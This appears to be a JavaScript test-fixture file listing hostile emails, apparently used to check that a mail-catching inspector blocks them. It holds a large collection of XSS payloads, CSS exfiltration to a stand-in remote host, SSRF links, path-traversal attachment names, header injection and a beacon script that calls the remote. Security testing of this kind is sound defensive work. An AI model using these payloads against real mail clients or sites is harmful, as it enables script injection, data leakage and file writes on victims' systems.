// Hostile mails as data: [name, how nodemailer sends it]. `R` stands for the address of a server elsewhere
// and `J` for a script that calls it, opens a dialog and tries to leave a mark on the page; it has no space,
// no quote and no `>`, so that it is whole in an attribute without quotes, too.
// An element with the id `x` is pressed.
const inHtml = (rows) => rows.map(([name, html, more = {}]) => [name, { subject: name, text: 'Quiet', html: `<p>Quiet</p>${html}`, ...more }])
const attached = (rows) => rows.map(([name, file, more = {}]) => [name, { subject: name, text: 'Quiet', html: '<p>Quiet</p>', attachments: [file], ...more }])

export const SCRIPTS = inHtml([
  ['script', '<script>J</script>'],
  ['script from elsewhere', '<script src="R/a.js"></script>'],
  ['script module', '<script type="module">J</script><script type="module" src="R/m.js"></script>'],
  ['script from a part of this mail', '<script src="cid:evil@x.example"></script>', { attachments: [{ filename: 'evil.js', content: 'J', contentType: 'text/javascript', cid: 'evil@x.example' }] }],
  ['script in a broken tag', '<scr<script>ipt>J</script><script/x>J</script>'],
  ['script that ends a comment', '<!--><script>J</script>-->'],
  ['script after a cut-off attribute', '<p title="</p><p title=">"<script>J</script>'],
  ['script that ends a style', '<style></style><script>J</script></style>'],
  ['script that ends a textarea and a title', '<textarea></textarea><script>J</script><title></title><script>J</script>'],
  ['noscript that turns into a script', '<noscript><p title="</noscript><script>J</script>">'],
  ['template and slot', '<template><script>J</script></template><div><template shadowrootmode="open"><slot onslotchange="J"></slot></template>x</div>'],
  ['mutation by nested forms', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="J">'],
  ['mutation by noembed', '<noembed><img title="</noembed><img src=x onerror=J>">'],
  ['mutation by xmp and listing', '<xmp><p title="</xmp><img src=x onerror=J>"></xmp><listing>&lt;img src=x onerror=J&gt;</listing>'],
  ['declarative shadow root', '<div><template shadowrootmode="open"><img src=x onerror="J"><style>@import "R/s.css";</style></template></div>'],
])

export const HANDLERS = inHtml([
  ['img onerror', '<img src="x" onerror="J">'],
  ['img onerror without quotes', '<img src=x onerror=J>'],
  ['image with a slash', '<img/src="x"/onerror=J>'],
  ['body onload', '<body onload="J" onpageshow="J" onfocus="J">'],
  ['input autofocus onfocus', '<input autofocus onfocus="J"><select autofocus onfocus="J"></select>'],
  ['details ontoggle', '<details open ontoggle="J">x</details>'],
  ['marquee onstart', '<marquee onstart="J" onfinish="J" loop="1" scrollamount="900">x</marquee>'],
  ['video source onerror', '<video><source onerror="J"></video><audio src=x onerror="J"></audio>'],
  ['onclick', '<button id="x" onclick="J">press</button>'],
  ['pointer handlers', '<div id="x" onpointerover="J" onmouseenter="J" onpointerdown="J" style="width:300px;height:300px">x</div>'],
  ['animation handlers', '<style>@keyframes a{from{color:red}}#x{animation:a 1s}</style><p id="x" onanimationstart="J" onanimationend="J">x</p>'],
  ['style onload and link onerror', '<style onload="J"></style><link rel="stylesheet" href="x.css" onerror="J">'],
  ['popover and command', '<button id="x" popovertarget="p">x</button><div popover id="p" onbeforetoggle="J" ontoggle="J">p</div>'],
  ['contentvisibility', '<div oncontentvisibilityautostatechange="J" style="content-visibility:auto">x</div>'],
])

export const ADDRESSES = inHtml([
  ['javascript: link', '<a id="x" href="javascript:J">press</a>'],
  ['javascript: link in disguise', '<a id="x" href=" &#1;java&#9;scri&NewLine;pt&colon;J">press</a>'],
  ['data: link', '<a href="data:text/html,<script>J</script>">press</a>'],
  ['vbscript: and blob: links', '<a href="vbscript:J">a</a><a href="blob:null/x">b</a>'],
  ['javascript: in an area', '<img id="x" usemap="#m" src="cid:none" width="90" height="90" alt="x"><map name="m"><area shape="rect" coords="0,0,90,90" href="javascript:J"></map>'],
  ['javascript: as an image, a background and a table', '<img src="javascript:J"><table background="javascript:J"><tr><td background="javascript:J">x</td></tr></table>'],
  ['javascript: as the action of a form', '<form action="javascript:J"><button id="x">press</button></form>'],
  ['form to elsewhere', '<form action="R/form" method="post"><input name="a" value="1"><button id="x">press</button></form>'],
  ['formaction to elsewhere', '<form><button id="x" formaction="R/formaction">press</button></form>'],
  ['form to the API', '<form action="/v1/messages" method="post" enctype="text/plain"><input name="a" value="b"><button id="x">press</button></form>'],
  ['base to elsewhere', '<base href="R/"><img src="pixel.png"><a href="path">x</a>'],
  ['base of a javascript: address', '<base href="javascript:J//"><a id="x" href="#">x</a>'],
  ['meta refresh to elsewhere', '<meta http-equiv="refresh" content="0;url=R/refresh">'],
  ['meta refresh to javascript:', '<meta http-equiv="refresh" content="0;url=javascript:J">'],
  ['meta that sets a policy and a cookie', '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><meta http-equiv="Set-Cookie" content="a=b"><script>J</script>'],
  ['link that leads to the top', '<a id="x" href="javascript:top.location=\'R/top\'" target="_top">press</a>'],
])

export const FRAMES = inHtml([
  ['iframe of a javascript: address', '<iframe src="javascript:J"></iframe>'],
  ['iframe with srcdoc', '<iframe srcdoc="<script>J</script>"></iframe>'],
  ['iframe to elsewhere', '<iframe src="R/frame"></iframe><frameset><frame src="R/frame2"></frameset>'],
  ['iframe of the inspector itself', '<iframe src="/"></iframe><iframe src="/v1/messages"></iframe>'],
  ['object and embed', '<object data="R/o" type="text/html"></object><embed src="R/e"><object data="javascript:J"></object><applet code="R/a"></applet>'],
  ['portal and fencedframe', '<portal src="R/p"></portal><fencedframe src="R/f"></fencedframe>'],
  ['SVG with a script', '<svg><script>J</script><script href="R/s.js"></script></svg>'],
  ['SVG onload', '<svg onload="J"><g onload="J"></g></svg>'],
  ['SVG link that is animated into a script', '<svg><a id="x"><animate attributeName="href" values="javascript:J" begin="0s" fill="freeze"/><text y="20">press</text></a></svg>'],
  ['SVG set and onbegin', '<svg><set attributeName="onmouseover" to="J"/><animate onbegin="J" attributeName="x" dur="1s"/></svg>'],
  ['SVG use from elsewhere', '<svg><use href="R/u.svg#a"/><image href="R/i.png"/><use href="data:image/svg+xml,<svg id=a onload=J></svg>#a"/></svg>'],
  ['SVG foreignObject', '<svg><foreignObject><iframe src="javascript:J"></iframe><img src=x onerror="J"></foreignObject></svg>'],
  ['SVG image from a data: address', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'J\'><script>J</script></svg>">'],
  ['MathML link', '<math href="javascript:J"><mtext id="x">press</mtext></math>'],
  ['MathML maction', '<math><maction actiontype="statusline#R/m" xlink:href="javascript:J"><mtext id="x">press</mtext></maction></math>'],
  ['MathML annotation', '<math><annotation-xml encoding="text/html"><script>J</script><img src=x onerror="J"></annotation-xml></math>'],
])

export const LOADING = inHtml([
  ['CSS import', '<style>@import "R/a.css"; @import url(R/b.css);</style>'],
  ['CSS exfiltration by attribute', '<style>input[value^="s"]{background:url(R/leak?s)}</style><input value="secret">'],
  ['CSS exfiltration of the page around', '<style>:root{background:url(R/root)} ::before{content:url(R/before)} body{list-style:url(R/list);cursor:url(R/cursor),auto}</style>'],
  ['CSS font', '<style>@font-face{font-family:a;src:url(R/font.woff)}*{font-family:a}</style>'],
  ['CSS expression, behaviour and binding', '<p style="width:expression(J);behavior:url(R/b.htc);-moz-binding:url(R/x.xml#a)">x</p>'],
  ['CSS in an inline style', '<p style="background:url(R/inline);border-image:url(R/border) 1;mask:url(R/mask)">x</p>'],
  ['CSS image-set and paint', '<p style="background:image-set(url(R/set) 1x);filter:url(R/f.svg#a)">x</p>'],
  ['stylesheet from elsewhere', '<link rel="stylesheet" href="R/s.css"><link rel="icon" href="R/i.ico">'],
  ['prefetch and preconnect', '<link rel="dns-prefetch" href="R"><link rel="preconnect" href="R"><link rel="prefetch" href="R/p"><link rel="preload" as="image" href="R/q"><link rel="prerender" href="R/r"><link rel="modulepreload" href="R/m.js">'],
  // The frame's rewriter reads these in another way than a browser does.
  ['frame behind a select with text', '<select><xmp></xmp></select><iframe src="R/f"></iframe>'],
  ['frame inside noscript', '<noscript><iframe src="R/f"></iframe></noscript>'],
  ['images from elsewhere', '<img src="R/1.png"><img srcset="R/2.png 2x"><picture><source srcset="R/3.png"></picture><input type="image" src="R/4.png"><body background="R/5.png">'],
  ['media from elsewhere', '<video src="R/v" poster="R/p" autoplay></video><audio src="R/a" autoplay></audio><video><track src="R/t" default></video>'],
  ['attributes of old', '<img lowsrc="R/l" dynsrc="R/d"><table background="R/t"><td background="R/td">x</td></table><bgsound src="R/b">'],
  ['ping of a link', '<a id="x" href="#here" ping="R/ping">press</a>'],
  ['manifest and speculation', '<html manifest="R/m"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["R/spec"]}]}</script>'],
  // Mailpit asked the network in the name of whoever called /proxy (CVE-2026-21859).
  ['CVE-2026-21859: a link to what only the server reaches', '<img src="/proxy?url=R/ssrf"><link rel="stylesheet" href="/proxy?data=R/ssrf"><a href="R/ssrf">x</a>'],
])

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="J"><script>J</script><text y="20">drawn</text></svg>'
const XSLT =
  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #IMPLIED>]><a><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>J</script></body></html></xsl:template></xsl:stylesheet></a>'
const PAGE = '<!doctype html><p>Quiet</p><script>J</script><img src=x onerror="J">'
export const FILES = attached([
  ['SVG as an attachment', { filename: 'a.svg', content: SVG, contentType: 'image/svg+xml' }],
  ['HTML as an attachment', { filename: 'a.html', content: PAGE, contentType: 'text/html' }],
  ['XHTML and XML as attachments', { filename: 'a.xhtml', content: `<html xmlns="http://www.w3.org/1999/xhtml"><script>J</script></html>`, contentType: 'application/xhtml+xml' }],
  ['XML with a script', { filename: 'a.xml', content: '<?xml version="1.0"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>J</h:script></a>', contentType: 'text/xml' }],
  ['XSLT as an attachment', { filename: 'a.xml', content: XSLT, contentType: 'text/xml' }],
  ['XSLT from elsewhere', { filename: 'a.xml', content: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="R/x.xsl"?><a/>', contentType: 'text/xml' }],
  ['HTML that says it is text', { filename: 'a.txt', content: PAGE, contentType: 'text/plain' }],
  ['HTML that says it is an image', { filename: 'a.png', content: PAGE, contentType: 'image/png' }],
  ['HTML without a known type', { filename: 'a.bin', content: PAGE, contentType: 'application/x-unknown' }],
  ['script as an attachment', { filename: 'a.js', content: 'J', contentType: 'text/javascript' }],
  ['PDF with a script', { filename: 'a.pdf', content: '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF', contentType: 'application/pdf' }],
  ['calendar and card with markup', { filename: 'a.ics', content: 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<img src=x onerror="J">\r\nURL:javascript:J\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n', contentType: 'text/calendar' }],
  ['file name with markup', { filename: '"><img src=x onerror=J>.txt', content: 'x', contentType: 'text/plain' }],
  ['file name with a path', { filename: '../../../../etc/cron.d/evil', content: 'x', contentType: 'text/plain' }],
  ['file name with a line end', { filename: 'a\r\nContent-Type: text/html\r\n\r\n<script>J</script>.txt', content: 'x', contentType: 'text/plain' }],
  ['type with markup', { filename: 'a.txt', content: 'x', contentType: 'text/<script>J</script>' }],
  // MailHog drew what attachments said of themselves (CVE-2022-50908).
  ['CVE-2022-50908: an attachment whose every label is a script', { filename: '<script>J</script><img src=x onerror="J">.html', content: PAGE, contentType: 'text/html', cid: '"><script>J</script>' }],
  // maildev made a file name from Content-ID and wrote it (CVE-2024-27448).
  ['CVE-2024-27448: a Content-ID that is a path', { filename: 'a.png', content: 'J', contentType: 'image/png', cid: '../../../../../../tmp/restante-was-here' }],
])

const plain = (name, more) => [name, { subject: name, text: 'Quiet', html: '<p>Quiet</p>', ...more }]
const MARKUP = '<img src=x onerror="J"><script>J</script>'
export const INJECTION = 'header injection in an encoded word'
// As bytes: a library that writes mail makes spaces of line ends.
const injecting = (fill) =>
  [
    'From: app@example.com', 'To: ann@example.com', `Subject: =?utf-8?B?${Buffer.from(fill('a\r\nBcc: c@example.com\r\nX-Evil: <script>J</script>')).toString('base64')}?=`,
    'MIME-Version: 1.0', 'Content-Type: text/html', '', '<p>Quiet</p>', '',
  ].join('\r\n')
export const LABELS = [
  plain('subject with markup', { subject: MARKUP }),
  plain('names of people with markup', { from: { name: MARKUP, address: 'a@example.com' }, to: { name: `"${MARKUP}`, address: 'b@example.com' }, replyTo: { name: MARKUP, address: 'c@example.com' } }),
  plain('address with markup', { envelope: { from: '"<script>"@example.com', to: ['"<svg/onload=J>"@example.com'] } }),
  plain('header names and values with markup', { headers: { 'X-Markup': MARKUP, 'List-Unsubscribe': '<javascript:J>, <R/unsubscribe>' } }),
  [INJECTION, { envelope: { from: 'app@example.com', to: ['ann@example.com'] }, raw: injecting }],
  plain('text with markup and addresses', { text: `${MARKUP} javascript:J <javascript:J> http://a.example/"onmouseover="J`, html: undefined }),
  plain('date and Message-ID with markup', { messageId: `<${'"'}><script>J</script>@x>`, headers: { Date: MARKUP } }),
]

export const ALL = { SCRIPTS, HANDLERS, ADDRESSES, FRAMES, LOADING, FILES, LABELS }

/** Rows to which no present Chromium answers, whatever the page is; kept for other browsers and for those to come. */
export const SPENT = [
  'marquee onstart', 'data: link', 'vbscript: and blob: links', 'javascript: as an image, a background and a table', 'base of a javascript: address',
  'meta refresh to javascript:', 'portal and fencedframe', 'SVG image from a data: address', 'MathML link', 'MathML maction', 'CSS expression, behaviour and binding',
  'XSLT from elsewhere',
  // A frame without scripts answers, a page with them does not.
  'frame inside noscript',
]

/** What `J` stands for. */
const script = (remote) => `fetch(\`${remote}/ran\`).catch(Date);new/**/Image().src=\`${remote}/ran\`;document.title=\`ran\`;try{top.document.title=\`ran\`}catch{};parent.postMessage(\`ran\`,\`*\`);alert(1)`

/** The same with `R` and `J` filled in, wherever they stand; a function makes of them what it needs. */
export function armed(mail, remote) {
  const fill = (value) => {
    if (typeof value === 'string') return value.replace(/\bJ\b/g, () => script(remote)).replace(/\bR(?=[/"'); ?#])/g, remote)
    if (typeof value === 'function') return value(fill)
    if (Array.isArray(value)) return value.map(fill)
    if (value && typeof value === 'object' && !Buffer.isBuffer(value)) return Object.fromEntries(Object.entries(value).map(([name, v]) => [name, fill(v)]))
    return value
  }
  return fill(mail)
}
